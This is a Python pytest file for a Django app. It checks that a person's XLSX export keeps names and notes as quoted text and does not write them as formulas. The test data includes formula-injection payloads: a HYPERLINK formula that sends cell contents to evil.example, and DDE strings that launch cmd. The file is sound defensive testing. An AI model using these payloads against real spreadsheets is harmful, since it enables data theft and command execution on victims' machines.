"""A person's XLSX export writes every text as text: a name or note that a spreadsheet would run as a formula
(=, +, -, @, a leading tab or carriage return) is kept as it was typed, marked with the quote prefix."""

import io

import pytest
from openpyxl import load_workbook

from tests.duediligence.people_world import World, client_of, make_person, world_fixture  # noqa: F401

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+cmd|' /C calc'!A0", "-Exemplar Dash", "@SUM(1,2)"]
NOTES = "=cmd|' /C calc'!A0"


def test_a_persons_export_writes_no_formula(world: World) -> None:
    person = make_person(world.organisation, *NAMES, notes=NOTES)
    response = client_of(world.member).get(f"/people/{person.pk}/export.xlsx")
    assert response.status_code == 200
    cells = [cell for sheet in load_workbook(io.BytesIO(response.content)) for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    written = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in [*NAMES, NOTES]:
        assert text in written, text  # kept as typed, not behind an added apostrophe
        assert written[text].quotePrefix, text
    assert not written["Field"].quotePrefix  # plain text is left alone
